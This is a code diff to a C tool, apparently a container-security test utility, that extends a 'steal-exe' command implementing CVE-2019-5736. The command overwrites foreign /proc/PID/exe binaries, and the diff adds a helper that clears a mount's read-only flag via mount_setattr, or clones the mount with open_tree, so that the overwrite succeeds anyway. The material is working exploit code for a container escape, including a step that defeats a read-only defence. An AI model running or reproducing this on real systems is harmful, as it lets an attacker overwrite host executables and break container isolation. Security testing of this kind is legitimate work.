@@ -5,6 +5,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/fs.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -31,9 +32,38 @@ static time_t deadline(const char *seconds)
 	return time(NULL) + (time_t)number(seconds);
 }
 
+/* As in linux/mount.h, which does not go together with sys/mount.h everywhere. */
+struct attrs {
+	uint64_t set, clear, propagation, userns_fd;
+};
+
+/* Makes the mount behind a descriptor writable, or a copy of it, if it can, and opens the file for writing.
+ */
+static int open_unlocked(int fd)
+{
+	struct attrs a = { .clear = 1 /* MOUNT_ATTR_RDONLY */ };
+	char path[64];
+	int tree, w;
+
+	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &a, sizeof a);
+	w = open(path, O_WRONLY | O_CLOEXEC);
+	if (w >= 0)
+		return w;
+	tree = (int)syscall(SYS_open_tree, fd, "", 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC | AT_EMPTY_PATH);
+	if (tree < 0)
+		return -1;
+	syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &a, sizeof a);
+	snprintf(path, sizeof path, "/proc/self/fd/%d", tree);
+	w = open(path, O_WRONLY | O_CLOEXEC);
+	close(tree);
+	return w;
+}
+
 /*
  * rft steal-exe SECONDS: CVE-2019-5736: takes hold of any foreign /proc/PID/exe and, as soon as that program
- * has ended, opens it for writing and overwrites it. Prints what came of it.
+ * has ended, opens it for writing and overwrites it, by taking a read-only mount's flag away if need be.
+ * Prints what came of it.
  */
 int cmd_steal_exe(int argc, char **argv)
 {
@@ -69,11 +99,8 @@ int cmd_steal_exe(int argc, char **argv)
 		if (d)
 			closedir(d);
 		for (int i = 0; i < n; i++) {
-			char path[64];
-			int w;
+			int w = open_unlocked(held[i]);
 
-			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
-			w = open(path, O_WRONLY | O_CLOEXEC);
 			if (w >= 0 && write(w, "#!/bin/owned\n", 13) == 13)
 				written++;
 			if (w >= 0)
